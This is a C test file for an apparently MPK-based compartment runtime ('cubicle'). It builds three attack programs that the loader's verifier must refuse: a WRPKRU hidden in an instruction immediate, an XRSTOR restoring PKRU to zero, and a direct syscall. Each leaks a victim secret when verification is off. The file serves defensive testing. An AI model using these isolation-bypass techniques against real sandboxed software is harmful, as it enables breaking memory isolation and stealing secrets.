/*===- verify_attacks.c - Code the loader must refuse --------------------===*\
 *
 * Built three times, with -DATTACK=1, 2 or 3, each into a program of its own
 * (cubicle "attacker", with the victim):
 *   1  a WRPKRU hidden in the immediate of an ordinary instruction, jumped
 *      to with EAX = 0;
 *   2  an XRSTOR of a crafted XSAVE area whose PKRU is 0;
 *   3  a system call made directly by cubicle code.
 * cubicle-verify refuses each binary and the runtime refuses to start it.
 * With the start-up scan off (CUBICLE_VERIFY=0) each attack works: it
 * reads the victim's secret or makes its system call (the control).
\*===----------------------------------------------------------------------===*/
#include "attacks.h"

#include <cpuid.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

/* Reads the secret through a pointer obtained before the attack (a call to
 * the victim afterwards would go through a gate, which restores PKRU). */
static void leakSecret(const char *Secret, const char *How) {
  char Copy[64];
  strcpy(Copy, Secret);
  printf("ATTACK %s succeeded: %s\n", How, Copy);
}

#if ATTACK == 1
int main(void) {
  const char *Secret = victim_global();
  /* B8 0F 01 EF C3 is "mov $0xc3ef010f, %eax"; one byte in, it reads
   * "wrpkru; ret".  Call that with EAX = 0: every key open. */
  __asm__ volatile("lea 2f+1(%%rip), %%r11\n\t"
                   "jmp 3f\n"
                   "2:\tmovl $0xc3ef010f, %%eax\n"
                   "3:\txor %%ecx, %%ecx\n\t"
                   "xor %%edx, %%edx\n\t"
                   "xor %%eax, %%eax\n\t"
                   "call *%%r11"
                   :
                   :
                   : "rax", "rcx", "rdx", "r11", "memory");
  leakSecret(Secret, "wrpkru-immediate");
  return 0;
}
#elif ATTACK == 2
static unsigned char Area[8192] __attribute__((aligned(64)));

int main(void) {
  const char *Secret = victim_global();
  unsigned A, B, C, D;
  __cpuid_count(0xD, 9, A, B, C, D); /* PKRU's offset in the XSAVE area */
  uint64_t Bv = 1u << 9;
  memcpy(Area + 512, &Bv, 8); /* XSTATE_BV: PKRU present */
  memset(Area + B, 0, 4);     /* PKRU = 0: every key open */
  __asm__ volatile("xrstor (%0)" : : "r"(Area), "a"(1u << 9), "d"(0)
                   : "memory");
  leakSecret(Secret, "xrstor");
  return 0;
}
#elif ATTACK == 3
int main(void) {
  static const char Msg[] = "ATTACK syscall succeeded: a raw write(2) from "
                            "cubicle code\n";
  long R;
  __asm__ volatile("syscall"
                   : "=a"(R)
                   : "a"(1L), "D"(1L), "S"(Msg), "d"(sizeof(Msg) - 1)
                   : "rcx", "r11", "memory");
  return R == (long)sizeof(Msg) - 1 ? 0 : 1;
}
#else
#error "build with -DATTACK=1, 2 or 3"
#endif
